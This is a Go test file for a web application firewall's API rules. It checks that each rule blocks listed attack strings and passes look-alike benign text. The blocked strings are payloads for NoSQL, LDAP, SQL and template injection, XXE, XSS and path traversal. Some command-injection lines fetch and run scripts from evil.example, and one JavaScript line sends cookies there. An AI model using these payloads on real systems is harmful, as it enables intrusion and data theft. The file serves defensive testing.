package waf

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"testing"
)

// TestAPIRules: each rule of api-rules.conf refuses its true positives (and is among the rules
// that matched) and does not match its false positives, with the shipped configuration.
func TestAPIRules(t *testing.T) {
	q := func(v string) request { return request{target: "/test?cursor=" + url.QueryEscape(v)} }
	js := func(v string) request {
		return request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":"x","data":{"v":` + jsonString(v) + `}}`}
	}
	jsKey := func(k string) request {
		return request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":"x","data":{"user":{` + jsonString(k) + `:1}}}`}
	}
	hdr := func(v string) request { return request{target: "/test", header: map[string]string{"X-Search": v}} }
	path := func(v string) request { return request{target: "/upload/" + url.PathEscape(v)} }
	b64 := func(v string) request { return q(base64.StdEncoding.EncodeToString([]byte(v))) }
	upload := func(name string) request {
		ct, body := multipartOf(name, []byte("%PDF-1.7\n"))
		return request{method: "POST", target: "/upload", contentType: ct, body: body}
	}
	tests := []struct {
		id      int
		matches []request
		passes  []request
	}{
		{10201, []request{{target: "/test?user[$ne]=1"}, jsKey("$ne"), jsKey("$where"), jsKey("$regex")},
			[]request{jsKey("$schema"), jsKey("$ref"), jsKey("price$"), {target: "/test?limit=10&cursor=abc"}}},
		{10202, []request{js(`{"$gt": ""}`), q(`[$ne]=1`), js(`' || this.password.match(/.*/) || '`), js(`'; return true; var x='`), js(`db.users.find({})`), hdr(`{"$ne": null}`)},
			[]request{js(`Prices in $ are shown; return policy applies`), js(`this.value == that? we'll see`), js(`use db.collection in the docs`)}},
		{10210, []request{js(`*)(uid=*))(|(uid=*`), js(`admin)(&)`), q(`(|(userPassword=*))`), hdr(`x)(|(mail=*)`), path(`*)(cn=*`)},
			[]request{js(`See (page 3) (and 4)`), js(`(a) or (b) & (c)`), js(`smile :) (really)`), js(`the objectclass concept`)}},
		{10220, []request{js("victim@example.com\nBcc: attacker@evil.example"), q("me@example.com\r\nCc: x@evil.example"), js("x\nSubject: hi")},
			[]request{js("Memo for all\nTo: the team\nFrom: Pat"), js("Dear team,\nSubject: we'll talk later")}},
		{10221, []request{js("x\r\nRCPT TO:<a@evil.example>"), js("INBOX\r\nA0002 LIST \"\" \"*\""), js("a\r\nHELO evil.example\r\n"), js("MAIL FROM:<spoof@evil.example>")},
			[]request{js("Please mail from: your office when ready"), js("step 2 list the items\nstep 3 select one"), js("I'll rcpt to you")}},
		{10222, []request{js("x\r\nSet-Cookie: session=evil"), js("x\nLocation: http://evil.example")},
			[]request{js("Meeting notes\nLocation: room 4"), js("Set-Cookie: is a response header")}},
		{10230, []request{q("{{7*7}}"), q("${7*7}"), q("#{7*7}"), q("<%= 7*7 %>"), js("{{''.__class__.__mro__}}"), hdr("${T(java.lang.Runtime).getRuntime()}"), q("<#assign ex=1>")},
			[]request{js("We use {{ name }} in our templates"), js("The total is ${total}"), js("Hashtags #{launch}"), js("7*7 = 49")}},
		{10240, []request{q(`<!--#exec cmd="ls"-->`), js(`<!--#include virtual="/etc/passwd"-->`), hdr(`<!--#echo var="DATE_LOCAL"-->`)},
			[]request{js("<!-- a comment -->"), js("<!-- #1 priority -->")}},
		{10250, []request{js(`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`), q(`<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`), hdr(`<!ENTITY % p SYSTEM "x">`)},
			[]request{js("<!DOCTYPE html><html><body>hi</body></html>"), js("the entity framework")}},
		{10260, []request{q("; cat /etc/passwd"), js("| id"), js("&& whoami"), js("$(id)"), js("`id`"), js("; sleep 10"), hdr("|| ping -c 3 evil.example"), js("; curl http://evil.example/x | sh"),
			q(";echo${IFS}pwned"), js(";id>/tmp/x"), js("echo PD9waHA= | base64 -d > /var/www/x.php"), q(";chmod +x /tmp/x"), js("a|net user"),
			hdr(`"; ls #`), q("&& dir"), js("& timeout /t 5"), hdr(";curl evil.example/s|bash"), q(";/???/??t /???/p??s??")},
			[]request{js("Grep is handy; ls is too"), js("Cat lovers; cat food"), js("Sleep well; see you"), js("Tom & Jerry; id card"), js("Run `git status` first"),
				js("Use chmod to change modes; net users grew 5%"), js("Sort the list > then print it"), js("No ifs, ands or buts; cats > dogs"), js("Install: curl -sSL https://get.example.com | sh"), js("Lists & directories"), js("What? /who/ said that?; /why?/ no idea")}},
		{10262, []request{js("system('id')"), js("shell_exec('whoami')"), q("phpinfo()"), js("eval(atob('YWxlcnQoMSk='))"), js("setTimeout('alert(1)',0)"),
			js("require('child_process').exec('id')"), js("{{constructor.constructor('alert(1)')()}}"), hdr("fetch('//evil.example/?c='+document.cookie)"),
			q("prompt(1)"), js("confirm(document.domain)"), q("alert`1`"), js("(alert)(1)"),
			hdr("';alert(String.fromCharCode(88,83,83))//"), hdr("$_SERVER['HTTP_USER_AGENT']"), hdr("top['al'+'ert'](1)")},
			[]request{js("The function exec() runs a command"), js("eval() is dangerous in JS"), js(`console.log("hi")`), js(`os.getenv("HOME")`),
				js("The system (old) was replaced"), js("document.cookie is readable by scripts"), js("Salmon spawn in rivers"),
				js("Set an alert (daily) and confirm it"), js("Prompt engineering (part 2)"), js("Costs $_ per unit [approx]"), js(`Use obj["key"] to read it`)}},
		{10270, []request{b64("1' OR '1'='1"), b64("1 UNION SELECT password FROM users--")},
			[]request{q("eyJjcmVhdGVkX2F0IjoiMjAyNi0wMS0wMVQwMDowMDowMFoiLCJpZCI6IjBiOWU2YTUyIn0"), q("password"), q("aGVsbG8gd29ybGQ=")}},
		{10271, []request{b64("<script>alert(1)</script>"), b64("<img src=x onerror=alert(1)>")},
			[]request{b64("<b>bold</b> text"), q("dGhlIHF1aWNrIGJyb3duIGZveA==")}},
		{10272, []request{b64("{{7*7}}"), b64("| id"), b64("*)(uid=*"), b64("../../etc/passwd")},
			[]request{b64(`{"id":"123","created_at":"2026-01-01"}`), b64("just some words here")}},
		{10280, []request{upload("<img src=x onerror=alert(1)>.pdf")}, []request{upload("Q3 report – O'Brien (final).pdf")}},
		{10281, []request{upload("<script>x</script>.pdf"), upload("${jndi:x}.pdf")}, []request{upload("a;b.pdf"), upload("x=y.pdf")}},
		{10282, []request{upload("../../etc/passwd"), upload("/etc/passwd")}, []request{upload("notes..final.txt"), upload("v1.2.pdf")}},
		{10290, []request{hdr("1' OR '1'='1"), hdr("admin'--"), {target: "/test", header: map[string]string{"X-Forwarded-For": "1' OR '1'='1"}}},
			[]request{hdr("O'Brien's notes"), path("0b9e6a52-8f0c-4b43-9d5c-6d1f1d1c2a10")}},
		{10293, []request{path("1 UNION SELECT password FROM users--"), path("1; DROP TABLE users"), hdr("1' WAITFOR DELAY '0:0:5'--")},
			[]request{path("0b9e6a52-8f0c-4b43-9d5c-6d1f1d1c2a10"), hdr("Union Station, select seats"), hdr(`He said: "I'll be there" -- then left`)}},
		{10294, []request{js("1 UNION SELECT password FROM users"), js("x' UNION ALL SELECT null,null--"), js("1 union/**/select 1"), js("1 UNION(SELECT 1)"),
			js("' having 1=1--"), js("1 and user()"), js("x' into outfile '/tmp/x'")},
			[]request{js("The union will select its leaders"), js("Union members will select a new chair"), js("UNION ALL then select")}},
		{10291, []request{hdr("<script>alert(1)</script>"), path("<svg onload=alert(1)>")},
			[]request{hdr("a < b > c"), hdr("Tom & Jerry")}},
		{10292, []request{hdr("../../../etc/passwd"), path("/etc/shadow"), js("php://filter/resource=index.php"), js("http://evil.example/shell.txt?")},
			[]request{js("see docs/2026/report.md"), js("https://example.com/docs?page=2"), js("version 1..3 of the plan")}},
	}
	s := newStack(t, Config{WAF: shippedWAF(t)})
	seen := map[int]bool{}
	for _, tt := range tests {
		id := strconv.Itoa(tt.id)
		seen[tt.id] = true
		for i, rq := range tt.matches {
			t.Run(fmt.Sprintf("%d/tp%d", tt.id, i), func(t *testing.T) {
				rq.remote = fmt.Sprintf("192.0.2.%d:1", tt.id%250)
				if rec := s.do(t, rq); rec.Code != http.StatusForbidden {
					t.Fatalf("%s %s %.100q: status %d, want 403", methodOf(rq), rq.target, rq.body, rec.Code)
				}
				recs := s.logs.records(t)
				ids, _ := recs[len(recs)-1]["matchedRuleIds"].([]any)
				if !slices.Contains(ids, any(id)) {
					t.Errorf("%s %.100q: matched %v, want %s among them", rq.target, rq.body, ids, id)
				}
			})
		}
		for i, rq := range tt.passes {
			t.Run(fmt.Sprintf("%d/fp%d", tt.id, i), func(t *testing.T) {
				rq.remote = fmt.Sprintf("198.51.100.%d:1", tt.id%250)
				// The rule must not match; a CRS rule refusing the same text is CRS's false
				// positive (see testdata/benign-crs-fp.txt), not this rule's.
				if rec := s.do(t, rq); rec.Code != http.StatusOK {
					recs := s.logs.records(t)
					if ids, _ := recs[len(recs)-1]["matchedRuleIds"].([]any); slices.Contains(ids, any(id)) {
						t.Errorf("%s %s %.100q: %s matched (%v)", methodOf(rq), rq.target, rq.body, id, recs[len(recs)-1]["reason"])
					}
				}
			})
		}
	}
	for _, id := range ownRuleIDs {
		if !seen[id] {
			t.Errorf("rule %d has no cases", id)
		}
	}
}
